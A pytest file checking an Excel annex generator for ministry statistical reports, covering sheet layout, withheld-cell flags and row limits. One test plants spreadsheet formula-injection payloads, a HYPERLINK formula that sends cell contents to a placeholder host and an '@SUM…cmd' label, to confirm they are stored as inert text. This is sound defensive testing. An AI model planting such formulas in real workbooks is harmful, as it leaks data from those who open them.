"""The annex workbook, opened as the ministry opens it."""

from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import pytest

from validators.review.annex import FIRST_TABLE_ROW, sheet_name, write_annex
from validators.spec.lint import load_catalogue

ROOT = Path(__file__).resolve().parents[3]
BROKEN = ROOT / "tests" / "fixtures" / "edition_broken" / "2025-12-31"


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    folder = tmp_path_factory.mktemp("annex") / "2025-12-31"
    shutil.copytree(BROKEN, folder)
    return openpyxl.load_workbook(write_annex(folder, load_catalogue(ROOT / "specs")[0], lang="en"))


def test_one_sheet_per_published_request_plus_contents(book):
    # 40a failed validation in this edition: no sheet for it
    assert book.sheetnames == ["Contents", "40(f) 40f-covid-deaths", "40(h) 40h-trafficking-victims"]
    contents = book["Contents"]
    assert [c.value for c in contents[3]] == ["Paragraph", "Request", "Title", "Status", "Sheet"]
    link = contents.cell(row=4, column=5)
    assert link.value == "40(f) 40f-covid-deaths" and link.hyperlink.location == "'40(f) 40f-covid-deaths'!A1"


def test_request_sheet_has_title_words_unit_and_notes(book):
    ws = book["40(f) 40f-covid-deaths"]
    assert ws["A1"].value == "40(f) – Deaths from COVID-19, by sex and age"
    assert ws["B3"].value.startswith("The number of migrant workers and members of their families")
    assert ws["B4"].value == "PS: persons who died of COVID-19"
    assert ws["B5"].value.startswith("nationality: MINSA's death register records no nationality")
    header = [c.value for c in ws[FIRST_TABLE_ROW + 1]]
    assert header == ["Period", "Sex", "Age group", "Value", "Flag"]
    first = [c.value for c in ws[FIRST_TABLE_ROW + 2]]
    assert first[0] == "2020-03" and first[1] == "Female" and first[3] == 0


def test_withheld_cells_are_flagged_and_empty(book):
    ws = book["40(h) 40h-trafficking-victims"]
    rows = list(ws.iter_rows(min_row=FIRST_TABLE_ROW + 2, values_only=True))
    withheld = [r for r in rows if r[-1] == "C"]
    assert withheld and all(r[-2] is None for r in withheld)
    assert rows[1][-2] == 76 and rows[1][-1] is None  # a free cell: a number, no flag


def test_sheet_names_fit_excel():
    taken: set[str] = set()
    long = sheet_name("40(h)", "40h-trafficking-victims-by-purpose", taken)
    assert len(long) <= 31 and sheet_name("40(h)", "40h-trafficking-victims-by-purpose", taken) != long


def test_a_table_too_long_for_a_sheet_is_cut_with_a_note(tmp_path, monkeypatch):
    import validators.review.annex as annex

    folder = tmp_path / "2025-12-31"
    shutil.copytree(BROKEN, folder)
    monkeypatch.setattr(annex, "MAX_ROWS", 10)
    ws = openpyxl.load_workbook(write_annex(folder, load_catalogue(ROOT / "specs")[0], lang="en"))["40(f) 40f-covid-deaths"]
    assert ws["A8"].value == "470 rows more than a sheet holds: see tables/40f-covid-deaths.csv"
    assert ws.max_row == FIRST_TABLE_ROW + 1 + 10


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
    """A spec's `asks` or a codelist label starting with '=' stays text: no live formula, no link."""
    folder = tmp_path / "2025-12-31"
    shutil.copytree(BROKEN, folder)
    specs = tmp_path / "specs"
    shutil.copytree(ROOT / "specs", specs)
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    request = specs / "requests" / "40f-covid-deaths.yaml"
    text = request.read_text(encoding="utf-8")
    start, end = text.index("asks: >-\n"), text.index("\nsource:")
    request.write_text(text[:start] + f"asks: '{hostile}'" + text[end:], encoding="utf-8")
    sex = specs / "codelists" / "sex.yaml"
    sex.write_text(sex.read_text(encoding="utf-8").replace("en: Female,", "en: '@SUM(1+1)*cmd',"), encoding="utf-8")
    catalogue, problems = load_catalogue(specs)
    assert problems == [] and catalogue.requests["40f-covid-deaths"].asks == hostile
    path = write_annex(folder, catalogue, lang="en")
    ws = openpyxl.load_workbook(path)["40(f) 40f-covid-deaths"]
    assert ws["B3"].value == hostile and ws["B3"].data_type == "s"
    labels = {ws.cell(row=r, column=2).value for r in range(FIRST_TABLE_ROW + 2, ws.max_row + 1)}
    assert "@SUM(1+1)*cmd" in labels
    formulas = [c.coordinate for row in openpyxl.load_workbook(path).worksheets for r in row.iter_rows()
                for c in r if c.data_type == "f"]
    assert formulas == []
